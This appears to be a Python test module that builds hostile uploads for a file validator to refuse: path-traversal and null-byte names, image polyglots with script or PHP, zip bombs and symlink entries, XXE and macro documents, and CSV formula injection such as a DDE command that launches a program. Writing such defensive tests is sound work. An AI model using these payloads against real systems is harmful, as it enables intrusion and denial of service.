"""Hostile files, made by code: each must be refused with a reason. Nothing here harms anybody."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator

from PIL import Image

from tests.apps.evidence import good_files as good
from tests.apps.evidence.hostile_kit import FOREIGN, GOOD, MIB, SLOT, Hostile, little_zip
from tests.apps.evidence.hostile_papers import JS, XXE, changed, offices, pdfs, with_doctype


def everything() -> Iterator[Hostile]:
    """All hostile files, in a fixed order."""
    for part in (names, extensions, slots, magics, sizes, truncated, images, pdfs, offices):
        yield from part()
    for part in (archives, packages, tables):
        yield from part()


# -- names ------------------------------------------------------------------------------------


def names() -> Iterator[Hostile]:
    for kind, make in GOOD.items():
        for label, name in (
            ("null byte", f"a\x00.{kind}"),
            ("null byte before a second extension", f"a.php\x00.{kind}"),
            ("right-to-left override", f"a\u202eexe.{kind}"),
            ("zero-width space", f"a\u200b.{kind}"),
            ("line break", f"a\r\nX-Header: 1.{kind}"),
            ("path upwards", f"../../etc/a.{kind}"),
            ("path of Windows", f"..\\..\\a.{kind}"),
            ("drive", f"C:\\a.{kind}"),
            ("alternate stream", f"a.{kind}:b.{kind}"),
            ("wildcard", f"a*.{kind}"),
            ("markup", f"<script>.{kind}"),
            ("program before the extension", f"发票.exe.{kind}"),
            ("script before the extension", f"a.php.{kind}"),
            ("page before the extension", f"a.html.{kind}"),
            ("device", f"CON.{kind}"),
            ("device with a number", f"lpt1.{kind}"),
            ("device with two dots", f"nul.2026.{kind}"),
            ("hidden", f".a.{kind}"),
            ("trailing dot", f"a.{kind}."),
            ("trailing blank", f"a.{kind} "),
            ("only the extension", f".{kind}"),
            ("much too long", "长" * 250 + f".{kind}"),
            ("no extension", kind),
        ):
            yield Hostile("name", f"{kind}, {label}", name, make(), SLOT[kind])
    yield Hostile("name", "empty", "", good.pdf(), "other")
    yield Hostile("name", "blank", "  ", good.pdf(), "other")


def extensions() -> Iterator[Hostile]:
    for extension in [
        "exe",
        "com",
        "bat",
        "cmd",
        "scr",
        "pif",
        "msi",
        "dll",
        "lnk",
        "url",
        "hta",
        "js",
        "jse",
        "vbs",
        "vbe",
        "wsf",
        "ps1",
        "sh",
        "py",
        "php",
        "phtml",
        "jsp",
        "asp",
        "aspx",
        "jar",
        "html",
        "htm",
        "xhtml",
        "svg",
        "svgz",
        "xml",
        "mht",
        "swf",
        "xls",
        "doc",
        "xlsm",
        "xlsb",
        "docm",
        "dotm",
        "pptm",
        "xltm",
        "rtf",
        "iso",
        "img",
        "rar",
        "7z",
        "gz",
        "tar",
        "tgz",
        "bz2",
        "gif",
        "bmp",
        "webp",
        "tiff",
        "heic",
        "ods",
        "odt",
        "eml",
        "apk",
        "reg",
        "chm",
    ]:
        yield Hostile("extension", extension, f"a.{extension}", good.pdf(), "other")


def slots() -> Iterator[Hostile]:
    for slot, kind in (
        ("photo", "pdf"),
        ("photo", "xlsx"),
        ("licence", "docx"),
        ("licence", "csv"),
        ("invoice", "zip"),
        ("payment", "xlsx"),
        ("list", "pdf"),
        ("list", "jpg"),
        ("package", "pdf"),
        ("contract", "zip"),
        ("report", "csv"),
        ("other", "zip"),
    ):
        yield Hostile("slot", f"{kind} for {slot}", f"a.{kind}", GOOD[kind](), slot)


# -- content that is something else ---------------------------------------------------------------


def magics() -> Iterator[Hostile]:
    for kind in GOOD:
        for other, content in FOREIGN.items():
            yield Hostile("magic", f"{other} as {kind}", f"a.{kind}", content, SLOT[kind])
        for other, make in GOOD.items():
            if other != kind and not (kind == "zip" and other in ("xlsx", "docx")):
                yield Hostile("magic", f"{other} as {kind}", f"a.{kind}", make(), SLOT[kind])
    for other in ("xlsx", "docx"):
        yield Hostile("magic", f"{other} as zip", "a.zip", GOOD[other](), "package")


def sizes() -> Iterator[Hostile]:
    for kind in GOOD:
        yield Hostile("size", f"{kind} of no bytes", f"a.{kind}", b"", SLOT[kind])
    yield Hostile("size", "pdf too large", "a.pdf", good.pdf() + bytes(31 * MIB), "other")
    yield Hostile("size", "jpg too large", "a.jpg", good.jpg() + bytes(21 * MIB), "photo")
    yield Hostile("size", "csv too large", "a.csv", b"a,b\r\n" * (3 * MIB), "list")


def truncated() -> Iterator[Hostile]:
    for kind, make in GOOD.items():
        if kind == "csv":
            continue
        whole = make()
        for percent in (10, 25, 50, 75, 95):
            content = whole[: len(whole) * percent // 100]
            label = f"{kind} at {percent} %"
            yield Hostile("truncated", label, f"a.{kind}", content, SLOT[kind])


# -- images -----------------------------------------------------------------------------------------


def _chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def _huge_png(wide: int, high: int) -> bytes:
    head = struct.pack(">IIBBBBB", wide, high, 1, 0, 0, 0, 0)
    row = zlib.compress(bytes(1 + wide // 8) * min(high, 64))
    parts = _chunk(b"IHDR", head) + _chunk(b"IDAT", row) + _chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + parts


def _huge_jpg(wide: int, high: int) -> bytes:
    content = bytearray(good.jpg())
    at = content.index(b"\xff\xc0") + 5
    content[at : at + 4] = struct.pack(">HH", high, wide)
    return bytes(content)


def _animated() -> bytes:
    frames = [Image.new("RGB", (8, 8), shade) for shade in ("red", "blue")]
    out = io.BytesIO()
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])
    return out.getvalue()


def images() -> Iterator[Hostile]:
    scripts = {
        "page": b"<html><body onload=alert(1)>",
        "script": b"<script>alert(1)</script>",
        "php": b"<?php phpinfo(); ?>",
        "doctype": b"<!DOCTYPE html>",
        "pdf": b"%PDF-1.7\n1 0 obj",
        "svg": b"<svg xmlns='http://www.w3.org/2000/svg'>",
        "zip": little_zip(),
    }
    comment = b"\xff\xd8\xff\xfe"
    for label, body in scripts.items():
        jpg, png = good.jpg(), good.png()
        if label != "zip":
            inside = comment + struct.pack(">H", len(body) + 2) + body + jpg[2:]
            yield Hostile("polyglot", f"jpg with {label} in a comment", "a.jpg", inside, "photo")
            text = png[:33] + _chunk(b"tEXt", b"Comment\0" + body) + png[33:]
            yield Hostile("polyglot", f"png with {label} in a text", "a.png", text, "photo")
        yield Hostile("polyglot", f"jpg followed by {label}", "a.jpg", jpg + body, "photo")
        yield Hostile("polyglot", f"png followed by {label}", "a.png", png + body, "photo")
    for wide, high in ((50_000, 50_000), (21_000, 10), (10, 30_000), (9_000, 9_000)):
        label = f"{wide}×{high}"
        yield Hostile("image", f"png of {label}", "a.png", _huge_png(wide, high), "photo")
    for wide, high in ((65_500, 65_500), (30_000, 8), (9_000, 9_000)):
        yield Hostile("image", f"jpg of {wide}×{high}", "a.jpg", _huge_jpg(wide, high), "photo")
    yield Hostile("image", "animated png", "a.png", _animated(), "photo")
    png = good.png()
    broken = png[:60] + bytes([png[60] ^ 255]) + png[61:]
    yield Hostile("image", "png with a wrong check sum", "a.png", broken, "photo")
    yield Hostile("image", "png head alone", "a.png", png[:8], "photo")
    yield Hostile("image", "jpg head alone", "a.jpg", b"\xff\xd8\xff", "photo")
    empty = struct.pack(">IIBBBBB", 0, 0, 8, 2, 0, 0, 0)
    none = b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", empty) + _chunk(b"IEND", b"")
    yield Hostile("image", "png of no size", "a.png", none, "photo")


# -- archives -------------------------------------------------------------------------------------------------


def _zip(entries: list[tuple[str, bytes]], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in entries:
            archive.writestr(zipfile.ZipInfo(name), content, compress_type=method)
    return out.getvalue()


def _special(mode: int, name: str = "a.csv") -> bytes:
    info = zipfile.ZipInfo(name)
    info.create_system, info.external_attr = 3, mode << 16
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(info, "/etc/passwd")
    return out.getvalue()


def _flagged(whole: bytes, flag: int) -> bytes:
    """Set a general-purpose flag in every header."""
    content = bytearray(whole)
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        here = content.find(mark)
        while here >= 0:
            content[here + at] |= flag
            here = content.find(mark, here + 4)
    return bytes(content)


def _overlapping() -> bytes:
    """Two entries that share one body, the trick of the flattest bombs."""
    one = _zip([("a.csv", b"a,b\r\n" * 50)])
    end = one.rindex(b"PK\x05\x06")
    central = one[one.index(b"PK\x01\x02") : end]
    start = one.index(b"PK\x01\x02")
    twice = central + central.replace(b"a.csv", b"b.csv")
    tail = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 2, 2, len(twice), start, 0)
    return one[:start] + twice + tail


def archives() -> Iterator[Hostile]:
    table = b"a,b\r\n1,2\r\n"
    bomb = bytes(50 * MIB)
    whole = good.package()
    broken = bytearray(_zip([("a.csv", table)], zipfile.ZIP_STORED))
    broken[broken.index(b"1,2")] ^= 1
    cases = {
        "path upwards": _zip([("../a.csv", table)]),
        "path upwards, deeper": _zip([("x/../../a.csv", table)]),
        "path upwards of Windows": _zip([("..\\a.csv", table)]),
        "absolute path": _zip([("/etc/a.csv", table)]),
        "drive": _zip([("C:/a.csv", table)]),
        "share": _zip([("//host/a.csv", table)]),
        "symbolic link": _special(0o120777),
        "link to a folder": _special(0o120777, "x"),
        "device": _special(0o020666),
        "block device": _special(0o060666),
        "pipe": _special(0o010666),
        "socket": _special(0o140666),
        "bomb by ratio": _zip([("a.csv", bomb)]),
        "bomb in many": _zip([(f"{n}.csv", bytes(9 * MIB)) for n in range(30)]),
        "too many entries": _zip([(f"{n}.csv", b"") for n in range(400)]),
        "same name twice, other case": _zip([("a.csv", table), ("A.csv", table)]),
        "same name twice, other form": _zip([("\u00e9.csv", table), ("e\u0301.csv", table)]),
        "locked": _flagged(_zip([("a.csv", table)]), 1),
        "strong lock": _flagged(_zip([("a.csv", table)]), 0x41),
        "overlapping": _overlapping(),
        "wrong check sum": bytes(broken),
        "bzip2": _zip([("a.csv", table)], zipfile.ZIP_BZIP2),
        "lzma": _zip([("a.csv", table)], zipfile.ZIP_LZMA),
        "program before": FOREIGN["program"] + whole,
        "zip before": _zip([("a.csv", table)]) + whole,
        "page after": whole + FOREIGN["page"],
        "junk after": whole + bytes(50),
        "nothing inside": _zip([]),
        "only folders": _zip([("x/", b"")]),
        "folders without end": _zip([("x/" * 40 + "a.csv", table)]),
        "control character in a name": _zip([("a\x07.csv", table)]),
        "override in a name": _zip([("a\u202e.csv", table)]),
        "declared size too small": whole[:18] + b"\x01\0\0\0\x01\0\0\0" + whole[26:-60],
        "directory cut": whole[:-30],
    }
    for label, content in cases.items():
        yield Hostile("zip", label, "a.zip", content, "package")


def packages() -> Iterator[Hostile]:
    """Archives that are sound, with something inside that would be refused alone."""
    script = good.pdf_with(catalogue=b"/OpenAction " + JS)
    inner = {
        "archive": ("b.zip", good.package()),
        "archive under another name": ("b.xlsx", good.package()),
        "rar": ("b.rar", FOREIGN["rar"]),
        "gzip": ("b.gz", FOREIGN["gzip"]),
        "program": ("b.exe", FOREIGN["program"]),
        "program under another name": ("b.pdf", FOREIGN["program"]),
        "two extensions": ("b.exe.pdf", good.pdf()),
        "page": ("b.html", FOREIGN["page"]),
        "page under another name": ("b.csv", FOREIGN["page"]),
        "drawing": ("b.svg", FOREIGN["svg"]),
        "drawing under another name": ("b.png", FOREIGN["svg"]),
        "script": ("b.js", b"alert(1)"),
        "script in a pdf": ("b.pdf", script),
        "macro": ("b.xlsx", changed(good.xlsx(), {"xl/vbaProject.bin": b"x"})),
        "entity": ("b.docx", with_doctype("docx", "word/document.xml", XXE)),
        "huge picture": ("b.png", _huge_png(50_000, 50_000)),
        "formula": ("b.csv", b"=cmd|'/c calc'!A0\r\n"),
        "device": ("nul.pdf", good.pdf()),
        "hidden": (".b.pdf", good.pdf()),
        "no extension": ("b", good.pdf()),
        "empty": ("b.pdf", b""),
        "stream bomb": ("b.pdf", next(h.content for h in pdfs() if h.label == "stream bomb")),
    }
    for label, (name, content) in inner.items():
        yield Hostile("package", label, "a.zip", _zip([("材料/" + name, content)]), "package")


# -- CSV --------------------------------------------------------------------------------------------------------


def tables() -> Iterator[Hostile]:
    cases = {
        "formula": "=1+1,2",
        "formula in a later row": "a,b\r\n1,=SUM(A1)\r\n",
        "formula behind blanks": "a,  =1+1",
        "formula in quotes": '"=1+1",2',
        "formula in full width": "＝1+1,2",
        "formula behind a tab": "a,\t=1+1",
        "starts a program": "=cmd|'/c calc'!A0",
        "starts a program with a plus": "+cmd|'/c calc'!A0",
        "starts a program with a minus": "-2+3+cmd|'/c calc'!A0",
        "at-function": "@SUM(1+9)*cmd|'/c calc'!A0",
        "link": '=HYPERLINK("http://example.org/"&A1,"点我")',
        "fetch": '=WEBSERVICE("http://example.org/")',
        "quote without end": 'a,"b\r\nc,d',
        "text after a quote": '"a"b,c',
        "too many columns": ",".join(["a"] * 400),
        "much too long a cell": "a," + "b" * 40_000,
        "script in a cell": "a,<script>alert(1)</script>",
        "frame in a cell": "a,<iframe src=x>",
        "bell": "a,\x07",
        "escape": "a,\x1b[2J",
        "form feed": "a,\x0c",
        "too many rows": "1\n" * 200_001,
    }
    for label, text in cases.items():
        yield Hostile("csv", label, "a.csv", text.encode(), "list")
    yield Hostile("csv", "UTF-16", "a.csv", "a,b".encode("utf-16"), "list")
    yield Hostile("csv", "no known encoding", "a.csv", b"a,\xff\xfe\xfa\x81\xff", "list")
    yield Hostile("csv", "null byte", "a.csv", b"a,b\x00c", "list")
